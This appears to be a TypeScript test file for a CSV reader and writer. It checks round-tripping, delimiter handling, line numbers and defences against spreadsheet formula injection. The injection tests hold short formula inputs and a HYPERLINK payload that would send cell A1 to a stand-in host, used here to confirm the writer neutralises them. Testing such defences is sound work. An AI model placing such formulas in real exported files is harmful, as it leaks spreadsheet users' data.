import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readCsvRows } from '@/server/csv/read'
import { csvOf } from '@/server/csv/write'

const cellsOf = (text: string) => readCsvRows(text).map(({ cells }) => cells)

test('what is written is read again as it was, whatever it is', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.stringMatching(/^['=+@"\r\n,;\t-]{0,6}[a-z0-9]?$/),
    fc.float({ noNaN: true }).map(String),
  )
  const row = fc.tuple(fc.constant('x'), cell, cell)
  const written = fc.property(fc.array(row, { minLength: 1 }), rows => {
    expect(cellsOf(csvOf(rows))).toEqual(rows)
  })
  fc.assert(written)
})

test.each(['=1+1', '+49', '-x', '@sum', '\tx', '\rx', `'=1`, `''@x`])('«%s» is no formula', text => {
  expect(csvOf([[text]])).toBe(`\uFEFF"'${text}"\r\n`)
})

/** The cells that a spreadsheet sees that parts them by this sign: quotation marks count where a cell begins with one. */
const cellsBy = (sign: string, file: string): string[] => {
  const cell = new RegExp(`(?:"((?:[^"]|"")*)")?([^${sign}\r\n]*)(?:${sign}|\r\n|\r|\n|$)`, 'gy')
  const cells: string[] = []
  while (cell.lastIndex < file.length) {
    const [, quoted = '', rest = ''] = cell.exec(file) ?? []
    cells.push(quoted.replaceAll('""', '"') + rest)
  }
  return cells
}

test.each([';', '\t', ','])('a spreadsheet that parts cells by «%s» finds no formula in any', sign => {
  const parts = fc.array(fc.constantFrom(';', '\t', '\n', '\r\n', '"', "'", '=', '+', '@', '-', 'a'))
  const text = parts.map(each => each.join(''))
  const written = fc.property(fc.array(fc.tuple(text, text), { minLength: 1 }), rows => {
    const cells = cellsBy(sign, csvOf(rows).slice(1))
    expect(cells.filter(cell => /^[=+\-@]/.test(cell))).toEqual([])
  })
  fc.assert(written, { numRuns: 2000 })
})

test('a formula behind a semicolon is a text, and is read again as it was', () => {
  const text = 'Best seller;=HYPERLINK("https://example.com/?"&A1;"here")'
  expect(csvOf([['1', text]])).toContain(`;'=HYPERLINK`)
  expect(cellsOf(csvOf([['1', text]]))).toEqual([['1', text]])
})

test.each(['-5', '-5.25', '9.99'])('%s stays a number', text => {
  expect(csvOf([[text]])).toBe(`\uFEFF"${text}"\r\n`)
})

test.each([
  ['commas', 'a,b\n"1;2",3\n'],
  ['semicolons, a mark and Windows ends', '\uFEFFa;b\r\n1,5;3\r\n'],
  ['tabs and the ends of an old Mac', 'a\tb\r1,5\t3\r'],
  ['ends of lines and other signs within quotation marks of its first row', 'a,"b;;\n;"\n1,3'],
  ['no end of the last line', 'a,b\n1,3'],
])('reads a file with %s', (_, text) => {
  const [head, row] = cellsOf(text)
  expect([head?.map(cell => cell[0]), row?.length]).toEqual([['a', 'b'], 2])
  expect(row?.[1]).toBe('3')
})

test('a row knows its line, also after a cell of several lines and after empty rows', () => {
  const rows = readCsvRows('a,b\r\n"1\r\n\r\n2",3\r\n\r\n,\r\n4,5\r\n')
  expect(rows.map(({ line }) => line)).toEqual([1, 2, 7])
  expect(rows[1]?.cells).toEqual(['1\r\n\r\n2', '3'])
})

test('a quotation mark without its end breaks the last row, and ends the reading', () => {
  const rows = readCsvRows('a,b\n1,2\n"3,4\n5,6\n')
  expect(rows.map(({ line, isBroken }) => [line, isBroken])).toEqual([
    [1, false],
    [2, false],
    [3, true],
  ])
})

test('a cell of many letters and quotation marks is read', () => {
  const long = 'x"'.repeat(100_000)
  expect(cellsOf(csvOf([[long]]))).toEqual([[long]])
})
